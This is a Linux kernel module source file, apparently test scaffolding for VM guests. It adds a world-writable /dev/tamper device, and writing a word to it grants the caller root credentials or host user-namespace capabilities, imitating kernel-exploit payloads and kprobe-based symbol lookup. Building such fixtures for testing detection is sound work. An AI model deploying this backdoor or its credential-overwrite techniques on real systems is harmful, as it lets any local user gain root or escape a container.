// SPDX-License-Identifier: GPL-2.0-only
/*
 * A deliberate hole, for the guests of `cargo xtask vm` only. A word written to /dev/tamper does to the calling
 * thread what the payload of a kernel exploit does, and what no system call shows:
 *
 *   commit   new credentials by the kernel's own functions: commit_creds(prepare_kernel_cred(&init_task))
 *   ids      the eight ids and the capabilities overwritten in place; the user namespace stays the pod's
 *   userns   the user namespace swapped in place for the initial one, and nothing else: the capabilities that the
 *            thread has in its pod thereby hold over the host
 *   acts     the subjective credentials replaced by init's, and the objective ones left alone
 *   nothing  none of it: what comes before and after is the same, for comparison
 *
 * In place means without a copy: threads of a process share their credentials, so all of them change, as they
 * would under a stray write. Unlike an exploit this keeps the kernel's accounts (references to namespaces,
 * processes counted by owner), because the guest has to live on without complaints in its log.
 *
 * vmlinux.h is made from the type information of the very kernel that the module is for.
 */
#include "vmlinux.h"

/* what type information does not hold: include/uapi/asm-generic/errno-base.h, include/linux/miscdevice.h */
enum { ENOENT = 2, ENOMEM = 12, EFAULT = 14, EINVAL = 22, MISC_DYNAMIC_MINOR = 255 };

extern struct task_struct init_task;
extern struct user_namespace init_user_ns;
extern int register_kprobe(struct kprobe *probe);
extern void unregister_kprobe(struct kprobe *probe);
extern int misc_register(struct miscdevice *device);
extern void misc_deregister(struct miscdevice *device);
extern unsigned long _copy_from_user(void *to, const void *from, unsigned long size);

/* Names of their own: a kernel that finds a second symbol of the same name refuses to put a probe at either. */
#define bpf_get_current_task the_bpf_get_current_task
#define prepare_kernel_cred the_prepare_kernel_cred
#define commit_creds the_commit_creds
#define abort_creds the_abort_creds
#define alloc_ucounts the_alloc_ucounts
#define put_ucounts the_put_ucounts
#define inc_rlimit_ucounts the_inc_rlimit_ucounts
#define dec_rlimit_ucounts the_dec_rlimit_ucounts

static u64 (*bpf_get_current_task)(void);
static struct cred *(*prepare_kernel_cred)(struct task_struct *daemon);
static int (*commit_creds)(struct cred *new);
static void (*abort_creds)(struct cred *new);
static struct ucounts *(*alloc_ucounts)(struct user_namespace *ns, kuid_t uid);
static void (*put_ucounts)(struct ucounts *ucounts);
static long (*inc_rlimit_ucounts)(struct ucounts *ucounts, enum rlimit_type type, long number);
static bool (*dec_rlimit_ucounts)(struct ucounts *ucounts, enum rlimit_type type, long number);

/* Not all of them are exported to modules: found as an exploit would. */
static const struct {
	const char *name;
	void *function;
} symbols[] = {
	{ "bpf_get_current_task", &bpf_get_current_task },
	{ "prepare_kernel_cred", &prepare_kernel_cred },
	{ "commit_creds", &commit_creds },
	{ "abort_creds", &abort_creds },
	{ "alloc_ucounts", &alloc_ucounts },
	{ "put_ucounts", &put_ucounts },
	{ "inc_rlimit_ucounts", &inc_rlimit_ucounts },
	{ "dec_rlimit_ucounts", &dec_rlimit_ucounts },
};

/* The counters that the next exec would look up for this owner, so that what is taken from them was put there. */
static int move_accounts(struct task_struct *task, struct cred *cred, struct user_namespace *ns, kuid_t uid)
{
	struct ucounts *old = cred->ucounts;
	struct ucounts *new = alloc_ucounts(ns, uid);
	int threads = task->signal->nr_threads;

	if (!new)
		return -ENOMEM;
	inc_rlimit_ucounts(new, UCOUNT_RLIMIT_NPROC, threads);
	cred->ucounts = new;
	dec_rlimit_ucounts(old, UCOUNT_RLIMIT_NPROC, threads);
	put_ucounts(old);
	return 0;
}

static int overwrite_ids(struct task_struct *task, struct cred *cred, struct cred *root)
{
	int error = move_accounts(task, cred, cred->user_ns, root->uid);

	if (error)
		return error;
	cred->uid = cred->euid = cred->suid = cred->fsuid = root->uid;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = root->gid;
	cred->cap_inheritable = cred->cap_permitted = cred->cap_effective = root->cap_effective;
	cred->cap_bset = cred->cap_ambient = root->cap_effective;
	return 0;
}

static int swap_user_ns(struct task_struct *task, struct cred *cred, struct cred *root)
{
	int error = move_accounts(task, cred, &init_user_ns, cred->uid);
	struct user_namespace *old = cred->user_ns;

	if (error)
		return error;
	/* each gives away the reference that the other one drops */
	cred->user_ns = root->user_ns;
	root->user_ns = old;
	return 0;
}

/* what checks permissions, and not what others see; a task that executes like this is stopped by the kernel */
static int replace_subjective(struct task_struct *task, struct cred *root)
{
	struct cred *old = (struct cred *)task->cred;

	*(const struct cred **)&task->cred = root;
	abort_creds(old);
	return 0;
}

static int tamper(const char *word)
{
	struct task_struct *task = (struct task_struct *)bpf_get_current_task();
	struct cred *own = (struct cred *)task->real_cred;
	struct cred *root = prepare_kernel_cred(&init_task);
	int error = -EINVAL;

	if (!root)
		return -ENOMEM;
	if (!__builtin_strcmp(word, "commit"))
		return commit_creds(root);
	if (!__builtin_strcmp(word, "acts"))
		return replace_subjective(task, root);
	if (!__builtin_strcmp(word, "ids"))
		error = overwrite_ids(task, own, root);
	else if (!__builtin_strcmp(word, "userns"))
		error = swap_user_ns(task, own, root);
	else if (!__builtin_strcmp(word, "nothing"))
		error = 0;
	abort_creds(root);
	return error;
}

static ssize_t tamper_write(struct file *file, const char *buffer, size_t size, loff_t *offset)
{
	char word[8] = {};
	int error;

	if (size >= sizeof(word))
		return -EINVAL;
	if (_copy_from_user(word, buffer, size))
		return -EFAULT;
	error = tamper(word);
	return error ? error : size;
}

static int tamper_init(void);
static void tamper_exit(void);

/* What modpost generates in the kernel's own build. */
struct module __this_module __attribute__((section(".gnu.linkonce.this_module"))) = {
	.name = "tamper",
	.init = tamper_init,
	.exit = tamper_exit,
};
static const char license[] __attribute__((section(".modinfo"), used, aligned(1))) = "license=GPL";

static const struct file_operations operations = { .owner = &__this_module, .write = tamper_write };
static struct miscdevice device = {
	.minor = MISC_DYNAMIC_MINOR,
	.name = "tamper",
	.fops = &operations,
	.mode = 0666,
};

static void *find_symbol(const char *name)
{
	struct kprobe probe = { .symbol_name = name };

	if (register_kprobe(&probe))
		return 0;
	unregister_kprobe(&probe);
	return probe.addr;
}

static int tamper_init(void)
{
	for (unsigned int i = 0; i < sizeof(symbols) / sizeof(*symbols); i++) {
		*(void **)symbols[i].function = find_symbol(symbols[i].name);
		if (!*(void **)symbols[i].function)
			return -ENOENT;
	}
	return misc_register(&device);
}

static void tamper_exit(void)
{
	misc_deregister(&device);
}
